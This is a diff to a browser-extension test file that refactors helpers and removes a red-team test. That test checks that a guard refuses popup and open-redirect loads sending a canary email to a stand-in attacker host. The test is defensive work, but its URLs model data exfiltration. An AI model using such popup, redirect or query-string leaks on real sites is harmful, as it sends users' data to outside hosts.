@@ -11,13 +11,12 @@
  */
 import type { Page } from 'puppeteer';
 import { afterAll, beforeAll, expect, it } from 'vitest';
-import { createGate } from '../fake-llm/index.js';
-import { sendTask, sessionView } from './helpers/agent';
+import { sessionView } from './helpers/agent';
+import { EMAIL, loadChecks } from './helpers/loads';
 import { ctxOf, runAttack } from '../fixtures/pages/redteam/attack-runner';
 import type { Attack } from '../fixtures/pages/redteam/attacks';
 import { settingsFor, startHarness, stopHarness, type Harness } from '../fixtures/pages/redteam/harness';
 
-const EMAIL = 'alice.canary@victim.example';
 const h = {} as Harness;
 
 beforeAll(async () => {
@@ -27,23 +26,7 @@ beforeAll(async () => {
 
 afterAll(() => stopHarness(h));
 
-const until = async (what: string, ok: () => Promise<boolean> | boolean, ms = 10_000) => {
-  const end = Date.now() + ms;
-  while (!(await ok())) {
-    if (Date.now() > end)
-      throw new Error(
-        `timed out waiting for ${what}: decisions ${(await decisions(true)).join(' | ')}; canary got ${h.servers.canary.requests.map((r) => r.url).join(' ')}`,
-      );
-    await new Promise((r) => setTimeout(r, 25));
-  }
-};
-const decisions = async (why = !!process.env.DEBUG_LOADS): Promise<string[]> =>
-  (
-    (await h.ext.inWorker(
-      `globalThis.tabwright.sessions.get(${h.tabId}).then((l) => l.conversation.decisions ?? [])`,
-    )) as any[]
-  ).map((d) => `${d.tool}:${d.verdict}${why ? ` ${d.reason}` : ''}`);
-const canaryGot = (path: string) => h.servers.canary.requests.some((r) => r.url.startsWith(path));
+const { decisions, canaryGot, until, taskWaitingOnModel } = loadChecks(h);
 const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
 
 /** Time for the page's own script to load a page of its site and for it to finish loading. */
@@ -71,20 +54,6 @@ async function newTabLink(page: Page, url: string, path: string): Promise<number
   const ms = performance.now() - t;
   for (const p of await h.ext.browser.pages()) if (p.url().includes(path)) await p.close();
   return ms;
-}
-
-/** A task in the tab that has read the page and now waits on the model (release the gate to end it): no action runs. */
-async function taskWaitingOnModel(): Promise<ReturnType<typeof createGate>> {
-  await h.ext.inWorker(`globalThis.tabwright.sessions.reset(${h.tabId})`);
-  const gate = createGate();
-  h.llm.reset();
-  h.llm.script([
-    { tool: 'snapshot', args: {} },
-    { say: 'Done.', hold: gate },
-  ]);
-  await sendTask(h.ext, h.tabId, 'Tidy up my notes');
-  await gate.reached;
-  return gate;
 }
 
 it("while a task works in the tab, the page's own loads are judged and the user's are not", async () => {
@@ -203,48 +172,6 @@ it("a page framing our palette page does not hang the tab's loads while a task w
   await h.page.goto(notes, { waitUntil: 'load' }).catch(() => undefined); // the paused request itself is aborted
   await until('the next page to load', async () => (await tab()) === `complete ${notes}`);
   expect(canaryGot('/framed-leak')).toBe(false);
-  gate.release();
-  await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
-}, 60_000);
-it('a popup the guard judged stays guarded: its opener cannot load it again with the data', async () => {
-  // A new window's first load is blocked and judged. The page keeps a handle on the window (no noopener) and
-  // loads it again a moment later: that load is judged too, whether the first was let through (a harmless page)
-  // or refused (the tab stays on Chrome's error page). Before, a tab once judged was out of the rules for good.
-  const o = ctxOf(h);
-  await h.page.goto(o.page(o.VICTIM, 'notes.html'), { waitUntil: 'load' });
-  const refusals = async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length;
-  // Opens a window kept under `name`, or loads the one already kept there again.
-  const load = (name: string, url: string) =>
-    h.page.evaluate(
-      (n, u) => {
-        const w = globalThis as unknown as Record<string, Window | null>;
-        if (w[n]) w[n].location.href = u;
-        else w[n] = window.open(u);
-      },
-      name,
-      url,
-    );
-  // A window the page opened before the task began (such tabs were left out of the rules as the user's).
-  await load('early', `${o.ATTACKER}/w/survey.html?early=1`);
-  await until('the early popup to load', () => canaryGot('/w/survey.html?early=1'));
-  await h.page.bringToFront();
-  const gate = await taskWaitingOnModel();
-  const before = await refusals();
-  await load('harmless', `${o.ATTACKER}/w/survey.html?pop=1`);
-  await until('the harmless popup to load', () => canaryGot('/w/survey.html?pop=1'));
-  await load('refused', `${o.ATTACKER}/first?e=${EMAIL}`);
-  await until('the first refusal', async () => (await refusals()) === before + 1);
-  await load('harmless', `${o.ATTACKER}/again?e=${EMAIL}`);
-  await load('refused', `${o.ATTACKER}/again2?e=${EMAIL}`);
-  await load('early', `${o.ATTACKER}/again3?e=${EMAIL}`);
-  await until('three more refusals', async () => (await refusals()) === before + 4);
-  // The site's own open redirect, opened in a new window: the hop to the attacker is judged too.
-  await load('redirect', `${o.VICTIM}/redirect?to=${encodeURIComponent(`${o.ATTACKER}/hop?e=${EMAIL}`)}`);
-  await until('the hop refused', async () => (await refusals()) === before + 5);
-  expect(['/first', '/again', '/again2', '/again3', '/hop'].filter(canaryGot)).toEqual([]);
-  for (const p of await h.ext.browser.pages())
-    if (p.url().includes(o.ATTACKER) || p.url().startsWith('chrome-error')) await p.close();
-  await h.page.bringToFront();
   gate.release();
   await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
 }, 60_000);
